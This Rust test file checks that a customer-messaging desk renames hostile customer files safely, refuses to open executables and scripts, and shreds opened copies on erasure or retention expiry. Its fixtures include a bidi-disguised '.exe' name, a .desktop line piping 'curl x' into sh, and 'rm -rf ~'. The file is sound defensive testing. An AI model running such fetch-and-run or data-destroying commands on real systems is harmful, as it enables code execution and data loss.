//! Customers' files cannot run (issue 19, item 3), on real caches and real files: a desk names a
//! file by its MIME type's extension from an allow-list and shows names without bidi controls or
//! invisible characters; programs and scripts (by type, by extension, by contents) are never
//! copied for the system's opener, only saved; and a copy that was opened is shredded —
//! overwritten, then deleted — when its customer is erased (here or from the log), when retention
//! expires it, when the member is removed and when the workspace is terminated.

use std::path::{Path, PathBuf};

use serde_json::json;
use zentro_core::apply::RelayEvent;
use zentro_core::customer_files::{self, FileError, Refusal};
use zentro_core::{Cache, inbox, rights};

use crate::support::absent;

const DAY: i64 = 86_400_000;
const NOW: i64 = 1_780_000_000_000;

/// A WhatsApp document from `customer`, named `filename` by the customer, of type `mime`.
fn document(
    seq: i64,
    customer: &str,
    wamid: &str,
    filename: &str,
    mime: &str,
    at_ms: i64,
) -> RelayEvent {
    crate::support::wa_message(
        seq,
        customer,
        customer,
        wamid,
        at_ms / 1000,
        "document",
        json!({ "id": format!("media.{wamid}"), "filename": filename, "mime_type": mime }),
    )
}

/// A cache in a fresh data directory.
async fn desk() -> (tempfile::TempDir, Cache) {
    let dir = tempfile::tempdir().unwrap();
    let cache = Cache::open_in(dir.path()).await.unwrap();
    (dir, cache)
}

/// Stores `bytes` as the downloaded file of message `wamid`, as the media download does; its id.
async fn downloaded(cache: &Cache, data_dir: &Path, wamid: &str, bytes: &[u8]) -> i64 {
    let (sha, path) = zentro_core::media::store(data_dir, bytes).await.unwrap();
    sqlx::query("UPDATE messages SET media_path = ?, media_sha256 = ? WHERE external_id = ?")
        .bind(path.to_string_lossy().into_owned())
        .bind(sha)
        .bind(wamid)
        .execute(cache.pool())
        .await
        .unwrap();
    sqlx::query_scalar("SELECT id FROM messages WHERE external_id = ?")
        .bind(wamid)
        .fetch_one(cache.pool())
        .await
        .unwrap()
}

fn contact_of(wamid: &str) -> String {
    format!(
        "SELECT c.contact_id FROM messages m JOIN conversations c ON c.id = m.conversation_id WHERE m.external_id = '{wamid}'"
    )
}

/// A second name for `copy` (a hard link) that outlives its deletion: what the shredding wrote
/// over the bytes shows through it.
fn witness(dir: &Path, copy: &Path, name: &str) -> PathBuf {
    let witness = dir.join(name);
    std::fs::hard_link(copy, &witness).unwrap();
    witness
}

/// The copy is gone and its bytes were overwritten with zeros before it went.
fn shredded(copy: &Path, witness: &Path) {
    assert!(absent(copy), "{} is still there", copy.display());
    let left = std::fs::read(witness).unwrap();
    assert!(
        !left.is_empty() && left.iter().all(|b| *b == 0),
        "the copy was deleted without being overwritten: {:?}",
        String::from_utf8_lossy(&left)
    );
}

const PDF: &[u8] = b"%PDF-1.7\n% a customer's invoice\n";

#[tokio::test]
async fn a_hostile_name_is_stored_under_its_types_extension_and_shown_without_bidi_controls() {
    let (dir, cache) = desk().await;
    let hostile = "invoice\u{202E}fdp.exe";
    crate::support::apply(
        &cache,
        &[
            document(1, "US.1", "wamid.1", hostile, "application/pdf", NOW),
            document(
                2,
                "US.1",
                "wamid.2",
                "re\u{200B}ceipt\u{2066}.pdf\u{2069}",
                "application/pdf",
                NOW + 1000,
            ),
        ],
    )
    .await;
    let id = downloaded(&cache, dir.path(), "wamid.1", PDF).await;
    let receipt = downloaded(&cache, dir.path(), "wamid.2", PDF).await;

    // What the UI is given to show.
    let summary = inbox::conversations(&cache, None, 10)
        .await
        .unwrap()
        .remove(0);
    assert_eq!(summary.preview, "receipt.pdf"); // the list's preview is the last file's name
    let conversation = summary.id;
    let shown: Vec<Option<String>> = inbox::messages(&cache, conversation, None, 10)
        .await
        .unwrap()
        .into_iter()
        .rev()
        .map(|m| m.file_name)
        .collect();
    assert_eq!(
        shown,
        [
            Some("invoicefdp.pdf".to_string()),
            Some("receipt.pdf".to_string())
        ]
    );

    // The customer called it an .exe: it is not opened, and saving it keeps the desk's name.
    match customer_files::open_copy(&cache, id).await {
        Err(FileError::Refused(Refusal::ExecutableExtension(e))) => assert_eq!(e, "exe"),
        other => panic!("the .exe was not refused: {other:?}"),
    }
    let saved = customer_files::save_copy(&cache, id, &dir.path().join("Downloads"))
        .await
        .unwrap();
    assert_eq!(saved.file_name().unwrap(), "invoicefdp.pdf");

    // What the system's opener is given: the name shown, in the one folder of opened copies, not
    // executable.
    let copy = customer_files::open_copy(&cache, receipt).await.unwrap();
    assert_eq!(copy.file_name().unwrap(), "receipt.pdf");
    assert!(copy.starts_with(customer_files::opened_dir(&cache)));
    assert!(copy.starts_with(dir.path().join("opened")));
    assert_eq!(std::fs::read(&copy).unwrap(), PDF);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&copy).unwrap().permissions().mode();
        assert_eq!(mode & 0o111, 0, "the copy is executable: {mode:o}");
    }
}

/// A hostile file: the customer's name, its MIME type, its contents, whether a refusal is the
/// right one, and the name it is saved under.
type Hostile = (
    &'static str,
    &'static str,
    &'static [u8],
    fn(&Refusal) -> bool,
    &'static str,
);

#[tokio::test]
async fn programs_and_scripts_are_refused_for_opening_and_can_only_be_saved() {
    let (dir, cache) = desk().await;
    let hostile: &[Hostile] = &[
        (
            "setup.exe",
            "application/x-msdownload",
            b"MZ\x90\x00\x03",
            |r| matches!(r, Refusal::ExecutableType(_)),
            "setup.bin",
        ),
        (
            "launcher.desktop",
            "text/plain",
            b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
            |r| matches!(r, Refusal::ExecutableExtension(e) if e == "desktop"),
            "launcher.txt",
        ),
        (
            "install.sh",
            "text/plain",
            b"echo hello\n",
            |r| matches!(r, Refusal::ExecutableExtension(e) if e == "sh"),
            "install.txt",
        ),
        (
            "Invoice.PDF.exe",
            "application/pdf",
            PDF,
            |r| matches!(r, Refusal::ExecutableExtension(e) if e == "exe"),
            "Invoice.PDF.pdf",
        ),
        (
            "run.AppImage",
            "application/octet-stream",
            b"\x7fELF\x02\x01",
            |r| {
                matches!(
                    r,
                    Refusal::ExecutableType(_) | Refusal::ExecutableExtension(_)
                )
            },
            "run.bin",
        ),
        (
            "photo.jpg",
            "image/jpeg",
            b"\x7fELF\x02\x01\x01",
            |r| *r == Refusal::ExecutableContent,
            "photo.jpg",
        ),
        (
            "notes.sh",
            "application/x-sh",
            b"rm -rf ~\n",
            |r| matches!(r, Refusal::ExecutableType(_)),
            "notes.bin",
        ),
        (
            "archive.zip",
            "application/zip",
            b"PK\x03\x04",
            |r| matches!(r, Refusal::UnknownType(_)),
            "archive.bin",
        ),
    ];
    let events: Vec<RelayEvent> = hostile
        .iter()
        .enumerate()
        .map(|(i, (name, mime, ..))| {
            document(
                i as i64 + 1,
                "US.1",
                &format!("wamid.{i}"),
                name,
                mime,
                NOW + i as i64,
            )
        })
        .collect();
    crate::support::apply(&cache, &events).await;
    let downloads = dir.path().join("Downloads");
    for (i, (name, _, bytes, why, saved_as)) in hostile.iter().enumerate() {
        let id = downloaded(&cache, dir.path(), &format!("wamid.{i}"), bytes).await;
        match customer_files::open_copy(&cache, id).await {
            Err(FileError::Refused(refusal)) => {
                assert!(why(&refusal), "{name}: refused for {refusal:?}")
            }
            other => panic!("{name} was not refused: {other:?}"),
        }
        let saved = customer_files::save_copy(&cache, id, &downloads)
            .await
            .unwrap();
        assert_eq!(saved.file_name().unwrap(), *saved_as, "{name}");
        assert_eq!(std::fs::read(&saved).unwrap(), *bytes);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = std::fs::metadata(&saved).unwrap().permissions().mode();
            assert_eq!(mode & 0o111, 0, "{name} was saved executable: {mode:o}");
        }
    }
    // Nothing was written where the opener looks.
    assert!(absent(&customer_files::opened_dir(&cache)));
    // Saving again does not overwrite the first copy.
    let id = downloaded(&cache, dir.path(), "wamid.0", hostile[0].2).await;
    let again = customer_files::save_copy(&cache, id, &downloads)
        .await
        .unwrap();
    assert_eq!(again.file_name().unwrap(), "setup (2).bin");
}

#[tokio::test]
async fn an_opened_copy_is_shredded_when_its_customer_is_erased_here_or_from_the_log() {
    let (dir, cache) = desk().await;
    crate::support::apply(
        &cache,
        &[
            document(1, "US.1", "wamid.1", "contract.pdf", "application/pdf", NOW),
            document(
                2,
                "US.2",
                "wamid.2",
                "statement.pdf",
                "application/pdf",
                NOW,
            ),
            document(3, "US.3", "wamid.3", "other.pdf", "application/pdf", NOW),
        ],
    )
    .await;
    let one = downloaded(&cache, dir.path(), "wamid.1", b"%PDF one").await;
    let two = downloaded(&cache, dir.path(), "wamid.2", b"%PDF two").await;
    let three = downloaded(&cache, dir.path(), "wamid.3", b"%PDF three").await;
    let copies = [
        customer_files::open_copy(&cache, one).await.unwrap(),
        customer_files::open_copy(&cache, two).await.unwrap(),
        customer_files::open_copy(&cache, three).await.unwrap(),
    ];
    let witnesses = [
        witness(dir.path(), &copies[0], "w1"),
        witness(dir.path(), &copies[1], "w2"),
    ];

    // An admin erases customer 1 on this device.
    let contact: i64 = sqlx::query_scalar(&contact_of("wamid.1"))
        .fetch_one(cache.pool())
        .await
        .unwrap();
    rights::erase_locally(&cache, contact).await.unwrap();
    shredded(&copies[0], &witnesses[0]);
    assert!(
        !absent(&copies[1]) && !absent(&copies[2]),
        "other customers' copies went too"
    );

    // Customer 2 is erased on another device: the relay's event reaches this one.
    let (channel, customer): (String, String) = sqlx::query_as(
        "SELECT k.channel_id, k.external_id FROM contacts k WHERE k.external_id = 'US.2'",
    )
    .fetch_one(cache.pool())
    .await
    .unwrap();
    let salt = "00112233445566778899aabbccddeeff".to_string();
    let hash = rights::erasure_hash(&salt, &channel, &customer);
    crate::support::apply(
        &cache,
        &[RelayEvent {
            seq: 10,
            kind: rights::CONTACT_ERASED.into(),
            at: NOW,
            author: Some("relay".into()),
            payload: json!({ "salt": salt, "hash": hash }),
        }],
    )
    .await;
    rights::cleanup(&cache).await.unwrap();
    shredded(&copies[1], &witnesses[1]);
    assert!(!absent(&copies[2]), "customer 3's copy went too");
}

#[tokio::test]
async fn an_opened_copy_is_shredded_when_retention_expires_its_file_or_its_conversation() {
    let (dir, cache) = desk().await;
    crate::support::apply(
        &cache,
        &[
            document(
                1,
                "US.old",
                "wamid.1",
                "old.pdf",
                "application/pdf",
                NOW - 120 * DAY,
            ),
            document(
                2,
                "US.mid",
                "wamid.2",
                "mid.pdf",
                "application/pdf",
                NOW - 40 * DAY,
            ),
            document(
                3,
                "US.new",
                "wamid.3",
                "new.pdf",
                "application/pdf",
                NOW - DAY,
            ),
        ],
    )
    .await;
    let mut copies = Vec::new();
    for (i, wamid) in ["wamid.1", "wamid.2", "wamid.3"].iter().enumerate() {
        let id = downloaded(&cache, dir.path(), wamid, format!("%PDF {i}").as_bytes()).await;
        copies.push(customer_files::open_copy(&cache, id).await.unwrap());
    }
    let w_old = witness(dir.path(), &copies[0], "w-old");
    let w_mid = witness(dir.path(), &copies[1], "w-mid");

    // 90 days for conversations, 30 for media files.
    crate::support::apply(
        &cache,
        &[RelayEvent {
            seq: 10,
            kind: rights::RETENTION_EVENT.into(),
            at: NOW - DAY,
            author: Some("relay".into()),
            payload: json!({ "conversation_days": 90, "media_days": 30 }),
        }],
    )
    .await;
    rights::enforce_retention(&cache, NOW).await.unwrap();
    shredded(&copies[0], &w_old); // its conversation expired
    shredded(&copies[1], &w_mid); // its file expired, the message stays
    assert!(!absent(&copies[2]), "a recent file's copy went too");
}

#[tokio::test]
async fn every_opened_copy_is_shredded_when_the_member_is_removed_or_the_workspace_terminated() {
    for terminated in [false, true] {
        let (dir, cache) = desk().await;
        crate::support::apply(
            &cache,
            &[document(
                1,
                "US.1",
                "wamid.1",
                "contract.pdf",
                "application/pdf",
                NOW,
            )],
        )
        .await;
        let id = downloaded(&cache, dir.path(), "wamid.1", PDF).await;
        let copy = customer_files::open_copy(&cache, id).await.unwrap();
        let w = witness(dir.path(), &copy, "w");
        // Something of the user's own in the folder goes too: nothing stays there.
        let stray = customer_files::opened_dir(&cache).join("stray.pdf");
        std::fs::write(&stray, b"%PDF").unwrap();
        if terminated {
            zentro_core::account::forget_workspace(dir.path(), cache, None, "device").await;
        } else {
            // What the desk does when the relay no longer knows this device (member removed,
            // device revoked).
            customer_files::shred_all_copies(dir.path()).await;
        }
        shredded(&copy, &w);
        assert!(absent(&stray));
        assert!(absent(&dir.path().join("opened")));
    }
}
